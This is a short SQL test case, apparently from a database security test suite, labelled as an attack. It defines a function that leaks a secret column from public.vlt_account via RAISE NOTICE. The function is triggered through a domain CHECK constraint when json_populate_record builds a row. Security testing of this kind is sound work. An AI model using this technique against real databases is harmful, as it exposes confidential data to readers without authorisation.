-- Makes a row of a table's own type from JSON, which checks a domain by a function that reads.
-- wants: read
-- attack:
CREATE FUNCTION f_check(text) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN
  RAISE NOTICE '%', (SELECT secret FROM public.vlt_account WHERE id = 1); RETURN true; END$$;
CREATE DOMAIN evil AS text CHECK (f_check(value));
CREATE TABLE withdomain (id int, d evil);
INSERT INTO withdomain (id) VALUES (1);
SELECT json_populate_record(t, '{"d": "x"}') FROM withdomain t;
